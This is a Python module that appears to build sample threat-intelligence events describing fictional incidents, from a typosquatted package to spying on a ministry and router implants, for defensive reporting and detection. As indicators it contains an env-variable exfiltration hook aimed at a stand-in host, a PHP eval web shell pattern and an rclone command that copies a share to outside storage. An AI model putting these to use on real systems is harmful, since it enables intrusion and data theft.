"""Break-ins: supply chains, web servers, spying."""

from feedlib import Event, digest

from .cast import (AMBER, CLEAR, EMBERFIELD, GREEN, HARBOURLIGHT, LANTERNFISH, NORTHMOOR, PAPERLANTERN_C2, PAPERLANTERN_C2_HOST,
                   PAPERLANTERN_JA3, PAPERLANTERN_LOADER, QUILLMERE, technique)

SIDELOAD = technique("DLL Side-Loading - T1574.002")
SUPPLY = technique("Compromise Software Supply Chain - T1195.002")


def package():
    e = Event("colour-table", "2025-12-17", LANTERNFISH, "Look-alike package colour-tabIe steals tokens at installation", threat=2, tags=CLEAR + (SUPPLY,))
    e.attr("github-username", "colour-tabie-maintainer")
    e.attr("github-organisation", "colour-tabie")
    e.attr("github-repository", "colour-tabie/colour-tabIe", "Copy of the real project with one more file")
    e.attr("git-commit-id", digest("sha1", "package", "commit"), "Adds the install hook")
    e.attr("url", "https://telemetry.colour-tables.example/v1/env", "Receives the environment variables")
    e.attr("domain", "colour-tables.example", first="2025-12-10")
    code = e.obj("script", "The hook", filename="setup_hook.py", language="Python", state="Malicious",
                 script="import os, json, urllib.request\nsend(json.dumps(dict(os.environ)))\n", comment="Shortened")
    sheet = e.obj("file", "The package", filename="colour_tabIe-3.1.4.tar.gz", sha256=digest("sha256", "package", "sdist"), size_in_bytes=20480)
    sheet.ref(code, "contains")
    e.attr("filename|sha1", f"setup_hook.py|{digest('sha1', 'package', 'hook')}")
    e.attr("sha224", digest("sha224", "package", "hook"), "The hook")
    return e


def webshell():
    e = Event("gallery-plugin", "2026-01-07", HARBOURLIGHT, "Gallery plug-in of a content system lets anyone upload a web shell", threat=2,
              tags=CLEAR + (technique("Exploit Public-Facing Application - T1190"),))
    e.attr("vulnerability", "CVE-2026-99850", "Placeholder number")
    e.many("uri", ["/wp-content/uploads/gallery/thumb.php", "/gallery/ajax.php?do=put", "/media/cache/.idx.php"], "Asked for by the attacker")
    e.many("url", [f"http://shop-{n}.example/media/cache/.idx.php" for n in range(1, 7)], "Infected site, owner informed", tags=("kill-chain:Installation",))
    e.many("ip-src", ["198.51.100.31", "198.51.100.32"], "Uploads")
    shell = e.obj("file", "The shell", filename=".idx.php", sha256=digest("sha256", "webshell", "idx"), md5=digest("md5", "webshell", "idx"), size_in_bytes=1187,
                  mimetype="text/x-php", pattern_in_file="@eval(base64_decode($_POST['k']));")
    request = e.obj("http-request", "How it is used", method="POST", host="shop-1.example", uri="/media/cache/.idx.php", user_agent="Mozilla/5.0 (idx)")
    request.ref(shell, "executes")
    e.attr("mime-type", "text/x-php")
    e.attr("sigma", "title: Web server starts a shell\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    ParentImage|endswith: '/php-fpm'\n    Image|endswith: '/sh'\n  condition: selection\n")
    return e


def ministry():
    e = Event("glass-heron", "2026-03-30", LANTERNFISH, "Glass Heron: spying on a ministry through a signed viewer", threat=1,
              tags=AMBER + (SIDELOAD, technique("Spearphishing Attachment - T1566.001"), 'estimative-language:confidence-in-analytic-judgment="moderate"'))
    e.attr("threat-actor", "Glass Heron", "Our own name for the group; no link to any known group")
    e.attr("campaign-name", "Reed Bed")
    mail = e.obj("email", "Invitation that nobody sent", from_="protocol@conference-desk.example", from_display_name="Conference Desk", to="minister.office@ministry.example",
                 subject="Seating plan for the reception", attachment="seating-plan.iso", send_date="2026-03-11T07:02:00Z", header="X-Priority: 1",
                 message_id="<20260311070200.1@conference-desk.example>")
    viewer = e.obj("file", "Signed viewer, harmless by itself", filename="viewer.exe", sha256=digest("sha256", "heron", "viewer"), state="Harmless")
    library = e.obj("file", "Library beside it", filename="version.dll", sha256=digest("sha256", "heron", "library"), md5=digest("md5", "heron", "library"),
                    authentihash=digest("sha256", "heron", "authentihash"), state="Malicious")
    server = e.obj("domain-ip", "Command server", domain="reading-room.example", ip="203.0.113.180", first_seen="2026-03-09T00:00:00Z")
    certificate = e.obj("x509", "Its certificate", x509_fingerprint_md5=digest("md5", "heron", "x509"), x509_fingerprint_sha1=digest("sha1", "heron", "x509"),
                        serial_number="5fa9", issuer="CN=Example Intermediate CA", subject_common_name="reading-room.example", version="3")
    mail.ref(viewer, "contains").ref(library, "contains")
    viewer.ref(library, "uses")
    library.ref(server, "connects-to")
    server.ref(certificate, "identified-by")
    e.attr("x509-fingerprint-sha1", digest("sha1", "heron", "x509"))
    e.attr("ja3-fingerprint-md5", PAPERLANTERN_JA3, "Same client library as Paper Lantern; a weak link")
    e.attr("target-org", "Ministry of Examples")
    e.attr("yara", 'rule Glass_Heron_Library { strings: $a = "rdroom" fullword $b = { 68 65 72 6F 6E } condition: all of them }')
    e.obj("attack-pattern", "Technique in the catalogue of attack patterns", id="641", name="DLL Side-Loading", summary="A library is placed where a program looks first",
          related_weakness="CWE-706")
    e.report("Assessment", """
# Glass Heron

We assess with **moderate confidence** that the group is after correspondence, not money:

- one recipient, one message, one day;
- the library reads the mailbox and nothing else;
- the command server was used for a single victim.

> The shared TLS fingerprint with *Paper Lantern* is explained by a common library. It is no attribution.
""")
    return e


def heron_update(first):
    e = Event("glass-heron-2", "2026-06-17", LANTERNFISH, "Glass Heron: new command servers after publication", threat=2, extends=first, analysis=1, tags=AMBER + (SIDELOAD,))
    e.many("domain", ["periodicals.example", "map-cabinet.example", "card-index.example"], "Registered on the same day", first="2026-05-28")
    e.many("ip-dst", ["203.0.113.181", "203.0.113.182", "2001:db8:113::b4"], "Where they point", first="2026-05-29")
    e.attr("domain|ip", "card-index.example|203.0.113.182")
    e.attr("imphash", digest("md5", "heron", "imphash", 2), "New library")
    e.attr("cdhash", digest("sha1", "heron", "cdhash"), "Build for another system, unused so far")
    e.attr("pehash", digest("sha1", "heron", "pehash"))
    return e


def usb():
    e = Event("usb-orchard", "2026-02-25", EMBERFIELD, "Worm on memory sticks reaches a maintenance laptop", threat=3, tags=GREEN + ("kill-chain:Delivery",))
    stick = e.obj("device", "The stick", name="Memory stick of a contractor", device_type="Other", infection_type="Worm", description="16 GB, no label")
    worm = e.obj("file", "Shortcut that starts the worm", filename="Documents.lnk", md5=digest("md5", "usb", "lnk"), sha1=digest("sha1", "usb", "lnk"), size_in_bytes=2104)
    stick.ref(worm, "contains")
    e.attr("regkey", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\orch")
    e.attr("filename|md5", f"Documents.lnk|{digest('md5', 'usb', 'lnk')}")
    e.attr("mac-eui-64", "00:00:5e:ef:10:00:00:2a", "Wireless sensor beside it, not affected", ids=False)
    e.attr("target-machine", "EG-MAINT-03")
    e.attr("attachment", "readme.txt", "Text file from the stick", category="Artifacts dropped", data=b"Nothing to see here.\n")
    return e


def spyware():
    e = Event("weather-plus", "2026-04-15", HARBOURLIGHT, "Weather application for telephones reads messages", threat=2, tags=CLEAR + (technique("Drive-By Compromise - T1456"),))
    app = e.obj("android-app", "The application", name="Weather Plus", appid="org.example.weatherplus", sha256=digest("sha256", "weather", "apk"),
                certificate=digest("sha1", "weather", "cert"), domain="weather-plus.example")
    server = e.obj("domain-ip", "Where the messages go", domain="weather-plus.example", hostname="sync.weather-plus.example", ip="198.51.100.88", port=8443)
    app.ref(server, "communicates-with")
    e.attr("mobile-application-id", "org.example.weatherplus")
    e.attr("url", "https://weather-plus.example/get/latest.apk", "Download page shown in advertisements")
    e.attr("sha256", digest("sha256", "weather", "apk"))
    e.attr("ip-dst|port", "198.51.100.88|8443")
    e.attr("user-agent", "okhttp/4.9.0 WeatherPlus/2.2")
    return e


def watering_hole():
    e = Event("harvest-fair", "2026-05-27", QUILLMERE, "Page of a trade fair serves an exploit to visitors from hospitals", threat=2,
              tags=AMBER + (technique("Drive-by Compromise - T1189"),))
    page = e.obj("url", "Injected script", url="https://fair.example.org/assets/stat.js?v=9", host="fair.example.org", resource_path="/assets/stat.js", query_string="v=9")
    gate = e.obj("url", "Chooses who is attacked", url="https://select.fair-assets.example/g", host="select.fair-assets.example", resource_path="/g")
    page.ref(gate, "redirects-to")
    e.attr("sha256", PAPERLANTERN_LOADER, "What visitors of interest receive")
    e.attr("hostname", PAPERLANTERN_C2_HOST, "Contacted afterwards")
    e.attr("ip-dst", PAPERLANTERN_C2)
    e.attr("hostname", "select.fair-assets.example", first="2026-05-11", last="2026-05-26")
    e.attr("link", "https://fair.example.org/notice", "Notice of the organiser", category="Internal reference")
    return e


def exfiltration():
    e = Event("night-sync", "2026-07-29", QUILLMERE, "Copy of a research share synchronised to private storage at night", threat=3, analysis=1,
              tags=AMBER + (technique("Exfiltration to Cloud Storage - T1567.002"),))
    e.attr("url", "https://storage.uploads.example/api/v2/put", "The same storage that Granitejaw used", first="2026-07-14", last="2026-07-27")
    e.attr("filename", "rclone.conf", "Configuration that was found", category="Artifacts dropped")
    e.obj("process", "The copying", name="rclone.exe", command_line="rclone sync R:\\trials remote:t --transfers 8", pid="9120", parent_process_name="taskeng.exe",
          user_process="QH\\l.mercer", process_state="TERMINATED")
    e.attr("size-in-bytes", "48318382080", "Copied in thirteen nights")
    e.attr("target-user", "l.mercer", "Account that was used; the owner was on leave")
    return e


def router():
    e = Event("router-implant", "2026-08-26", EMBERFIELD, "Implant in small office routers relays traffic of others", threat=2, tags=GREEN)
    e.attr("mac-address", "00:00:5e:00:53:10", "First router")
    e.attr("mac-address", "00:00:5e:00:53:11", "Second router")
    e.attr("sha384", digest("sha384", "router", "implant"), "Implant")
    e.attr("sha512/256", digest("sha256", "router", "implant", 2), "Implant")
    e.attr("ip-dst|port", "203.0.113.99|4443", "Where it reports")
    e.attr("ip-src|port", "192.0.2.129|1080", "A relay, inside the pool of the stuffing campaigns")
    e.attr("bro", "redef Notice::ignored_types -= { SSL::Invalid_Server_Cert };", "Setting that hid it")
    e.attr("comment", "A restart removes the implant; the hole stays open until the update.")
    return e


def mail_server():
    e = Event("mail-rules", "2026-10-28", NORTHMOOR, "Forwarding rules on a mail server copy messages about invoices", threat=2, tags=GREEN + (technique("Valid Accounts - T1078"),))
    e.attr("email-dst", "archive.copy@mailhub.example", "Target of the rules", ids=True)
    e.attr("email-src", "accounts@northmoor.example", "Mailbox with the rule", ids=False)
    e.attr("email-header", "X-Forwarded-For: accounts@northmoor.example archive.copy@mailhub.example")
    e.attr("email-reply-to", "archive.copy@mailhub.example")
    e.attr("email-x-mailer", "RuleForwarder 2.0")
    e.attr("email-mime-boundary", "----=_NextPart_000_0042")
    e.attr("email-thread-index", "AQHcPz1k5m2h8rQ9v1GlQ2m3n4o5pR==")
    e.attr("email-body", "Please find attached the corrected invoice.\nKind regards", "Text that the rule looks for")
    e.many("ip-src", ["192.0.2.177", "203.0.113.91"], "Made the rules; both known from earlier cases")
    return e


def events():
    heron = ministry()
    return [package(), webshell(), usb(), heron, spyware(), watering_hole(), heron_update(heron), exfiltration(), router(), mail_server()]
